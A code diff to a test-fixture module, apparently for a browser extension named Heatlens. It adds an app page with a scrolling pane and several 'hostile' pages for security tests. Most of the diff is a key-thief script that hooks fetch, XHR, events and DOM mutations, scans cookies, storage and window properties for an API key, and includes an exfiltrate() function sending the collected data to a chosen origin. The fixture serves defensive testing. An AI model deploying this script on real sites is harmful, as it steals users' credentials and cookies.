@@ -207,6 +207,27 @@ ${markers.join('\n')}
   return documentShell('A very long page', '/assets/simple.css', body, options);
 }
 
+/** Height of the scrolling pane's content on /app. */
+export const APP_PANE_CONTENT_HEIGHT = 3000;
+/** Height of /app's fixed top bar; the pane fills the rest of the window. */
+export const APP_TOP_BAR_HEIGHT = 60;
+
+/**
+ * An app-like page whose window never scrolls: a fixed top bar and a main pane that scrolls inside
+ * itself (overflow: auto), with a button 2,000 px down the pane's content.
+ */
+export function appPageHtml(options: PageOptions = {}): string {
+  const body = `<div style="position:fixed;inset:0;display:flex;flex-direction:column">
+<div style="height:${APP_TOP_BAR_HEIGHT}px;flex:none;background:#1d2333;color:#fff;padding:16px 24px;box-sizing:border-box">App shell</div>
+<main id="pane" style="flex:1;overflow:auto;position:relative">
+<div style="position:relative;height:${APP_PANE_CONTENT_HEIGHT}px">
+<button type="button" id="deep-button" style="position:absolute;top:2000px;left:100px;width:200px;height:48px">Deep button</button>
+</div>
+</main>
+</div>`;
+  return documentShell('App with a scrolling pane', '/assets/simple.css', body, options);
+}
+
 export function notFoundHtml(): string {
   return documentShell('Not found', '/assets/simple.css', '<main class="page"><h1>Not found</h1></main>', {});
 }
@@ -288,3 +309,137 @@ export function postHogInitScript(config: PostHogSnippetConfig): string {
 })();
 `;
 }
+
+// ---------------------------------------------------------------------------------------------
+// Hostile and strict pages: the landing page (so the sample data's hot spots apply) plus one hostile
+// trait each, for the security and hygiene tests. Each trait is a separate file, never inline.
+
+/** Path → the extra <head> tags and response headers that make the landing page hostile. */
+export const hostilePages: Readonly<Record<string, { headExtra: string; headers?: Record<string, string> }>> = {
+  '/hostile/key-thief': { headExtra: '<script src="/assets/key-thief.js"></script>' },
+  '/hostile/css': { headExtra: '<link rel="stylesheet" href="/assets/hostile.css">' },
+  '/hostile/transform': { headExtra: '<link rel="stylesheet" href="/assets/transform.css">' },
+  '/hostile/replace-body': { headExtra: '<script src="/assets/replace-body.js"></script>' },
+  // Blocks everything but the page's own files: no inline code, no blob: worker, no connections.
+  '/csp-strict': { headExtra: '', headers: { 'Content-Security-Policy': "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'" } },
+};
+
+export const HOSTILE_CSS = `* { all: unset !important; }
+canvas { display: none !important; }
+html::before { content: "hostile"; }
+`;
+
+/** A transformed and zoomed body: fixed descendants of body would be positioned against it. */
+export const TRANSFORM_CSS = `body { transform: translate(13px, 7px) scale(0.9) rotate(0.4deg); transform-origin: 0 0; zoom: 1.1; filter: contrast(1.01); }
+`;
+
+/** Replaces document.body with a fresh copy, as some frameworks do on every render. */
+export const REPLACE_BODY_SCRIPT = `(() => {
+  'use strict';
+  window.replaceBody = () => {
+    const fresh = document.createElement('body');
+    fresh.innerHTML = document.body.innerHTML;
+    document.body = fresh;
+    return document.body === fresh;
+  };
+})();
+`;
+
+/**
+ * A page script that tries every way a page has to find Heatlens' API key: it wraps fetch and
+ * XMLHttpRequest, listens to postMessage and DOM events, watches every mutation, and scans the DOM
+ * (open shadow roots included), window properties, web storage, cookies and performance entries.
+ * `window.__thief.report()` returns everything it collected as one string; `__thief.exfiltrate(origin)`
+ * sends it there, as a real thief would; `__thief.askExtension(id)` tries to message an extension.
+ * (Nothing is read from the URL: Heatlens asks PostHog for the page's exact URL, hash included.)
+ */
+export const KEY_THIEF_SCRIPT = `(() => {
+  'use strict';
+  const seen = new Set();
+  const note = (where, value) => {
+    if (seen.size > 50000) return;
+    let text;
+    try { text = typeof value === 'string' ? value : JSON.stringify(value); } catch (error) { text = String(value); }
+    seen.add(where + ': ' + String(text).slice(0, 4000));
+  };
+  const realFetch = window.fetch;
+  window.fetch = function (input, init) {
+    note('fetch', [String(input && input.url ? input.url : input), init && init.headers, init && typeof init.body === 'string' ? init.body : null]);
+    return realFetch.apply(this, arguments);
+  };
+  const xhr = XMLHttpRequest.prototype;
+  const open = xhr.open, setRequestHeader = xhr.setRequestHeader, send = xhr.send;
+  xhr.open = function (method, url) { note('xhr.open', [method, String(url)]); return open.apply(this, arguments); };
+  xhr.setRequestHeader = function (name, value) { note('xhr.header', [name, value]); return setRequestHeader.apply(this, arguments); };
+  xhr.send = function (body) { note('xhr.send', body == null ? '' : String(body)); return send.apply(this, arguments); };
+  const attachShadow = Element.prototype.attachShadow;
+  Element.prototype.attachShadow = function (init) { note('attachShadow', [this.nodeName, init]); return attachShadow.call(this, Object.assign({}, init, { mode: 'open' })); };
+  const describeEvent = (event) => {
+    let path = [];
+    try { path = event.composedPath().map((node) => node.nodeName || String(node)); } catch (error) { /* ignore */ }
+    return [event.type, event.detail, event.data, event.key, event.target && event.target.nodeName, path];
+  };
+  window.addEventListener('message', (event) => note('message', [event.origin, event.data]), true);
+  const eventTypes = ['click', 'pointerdown', 'pointerup', 'keydown', 'keyup', 'input', 'change', 'focus', 'blur', 'focusin', 'scroll', 'resize',
+    'hashchange', 'popstate', 'load', 'DOMContentLoaded', 'visibilitychange', 'securitypolicyviolation', 'error', 'storage', 'toggle',
+    'heatlens', 'heatlens:load', 'heatlens:key', 'posthog'];
+  for (const type of eventTypes) {
+    window.addEventListener(type, (event) => note('event', describeEvent(event)), true);
+    document.addEventListener(type, (event) => note('event', describeEvent(event)), true);
+  }
+  const dispatchEvent = EventTarget.prototype.dispatchEvent;
+  EventTarget.prototype.dispatchEvent = function (event) { note('dispatch', describeEvent(event)); return dispatchEvent.call(this, event); };
+  const watch = (root) => new MutationObserver((records) => {
+    for (const record of records) {
+      const target = record.target;
+      note('mutation', [record.type, target.nodeName, record.attributeName, record.attributeName && target.getAttribute ? target.getAttribute(record.attributeName) : null, record.type === 'characterData' ? target.data : null]);
+      for (const node of record.addedNodes) {
+        note('added', node.outerHTML || node.textContent || node.nodeName);
+        if (node.shadowRoot) watch(node.shadowRoot);
+      }
+    }
+  }).observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
+  watch(document);
+  const scanDom = (root, out) => {
+    out.push(root.innerHTML !== undefined ? root.innerHTML : '');
+    for (const element of root.querySelectorAll('*')) {
+      for (const attribute of element.attributes) out.push(attribute.name + '=' + attribute.value);
+      if (element.shadowRoot) { out.push('#shadow-root ' + element.nodeName); scanDom(element.shadowRoot, out); }
+      else if (element.localName.includes('-')) out.push('#closed-or-none ' + element.nodeName);
+    }
+  };
+  const scan = () => {
+    const out = [document.documentElement.outerHTML];
+    scanDom(document, out);
+    for (const name of Object.getOwnPropertyNames(window)) {
+      if (name === '__thief') continue;
+      try {
+        const value = window[name];
+        if (value === null || value === undefined) continue;
+        if (typeof value !== 'function' && typeof value !== 'object') out.push('window.' + name + '=' + String(value));
+        else if (typeof value === 'object' && !(value instanceof Node) && value !== window && Object.getPrototypeOf(value) === Object.prototype) out.push('window.' + name + '=' + JSON.stringify(value));
+      } catch (error) { /* cross-origin or throwing getter */ }
+    }
+    for (const storage of [localStorage, sessionStorage]) for (let i = 0; i < storage.length; i++) out.push(storage.key(i) + '=' + storage.getItem(storage.key(i)));
+    out.push('cookie=' + document.cookie, 'title=' + document.title, 'url=' + location.href);
+    for (const entry of performance.getEntries()) out.push('perf ' + entry.name);
+    out.push('chrome.runtime=' + typeof (window.chrome && window.chrome.runtime));
+    return out.join('\\n');
+  };
+  setInterval(() => note('scan', scan()), 500);
+  window.__thief = {
+    report: () => [...seen, 'scan: ' + scan()].join('\\n'),
+    askExtension: (extensionId) => new Promise((resolve) => {
+      const runtime = window.chrome && window.chrome.runtime;
+      if (!runtime || !runtime.sendMessage) return resolve('no runtime');
+      try {
+        runtime.sendMessage(extensionId, { channel: 'heatlens', type: 'settings.get', payload: {} }, (answer) => { note('ext-answer', answer); resolve(JSON.stringify(answer)); });
+      } catch (error) { note('ext-refused', String(error)); resolve('refused'); }
+    }),
+    exfiltrate: (to) => {
+      const loot = window.__thief.report();
+      return realFetch(to + '/api/projects/1/heatmaps/?stolen=' + encodeURIComponent(loot.slice(0, 1500)), { credentials: 'include' }).then((response) => response.status, () => -1);
+    },
+  };
+})();
+`;
